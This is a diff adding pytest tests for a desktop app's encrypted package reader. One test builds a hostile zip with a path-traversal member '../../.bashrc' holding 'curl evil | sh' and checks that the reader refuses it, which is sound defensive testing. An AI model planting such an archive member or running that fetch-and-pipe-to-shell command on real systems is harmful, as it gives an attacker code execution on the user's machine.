@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import io
 import struct
+import zipfile
 from pathlib import Path
 
 import pytest
 from tests.io.package_samples import sample_contents
 
 from jpoa_desktop.errors import ValidationError
+from jpoa_desktop.io.packages.envelope import seal
 from jpoa_desktop.io.packages.reading import read_package
 from jpoa_desktop.io.packages.writing import write_package
 
@@ -86,3 +89,22 @@ def test_a_truncated_encrypted_package_is_refused(tmp_path: Path) -> None:
     path.write_bytes(data[:30])
     with pytest.raises(ValidationError, match=r"secret\.jpoa is an encrypted package .* cut short"):
         read_package(path, passphrase=PASSPHRASE)
+
+
+def test_what_the_passphrase_opens_is_checked_like_any_package(tmp_path: Path) -> None:
+    """A stranger who knows the passphrase can still seal a hostile zip: it is refused."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("manifest.json", b"{}")
+        archive.writestr("../../.bashrc", b"curl evil | sh")
+    path = tmp_path / "gift.jpoa"
+    path.write_bytes(seal(buffer.getvalue(), PASSPHRASE))
+    with pytest.raises(ValidationError, match=r"^gift\.jpoa is refused: member \.\./\.\./\.bashrc"):
+        read_package(path, passphrase=PASSPHRASE)
+    assert [p.name for p in tmp_path.iterdir()] == ["gift.jpoa"]
+
+
+def test_an_empty_passphrase_writes_an_open_package(tmp_path: Path) -> None:
+    path = tmp_path / "open.jpoa"
+    write_package(path, sample_contents(), passphrase=b"")
+    assert zipfile.is_zipfile(path)
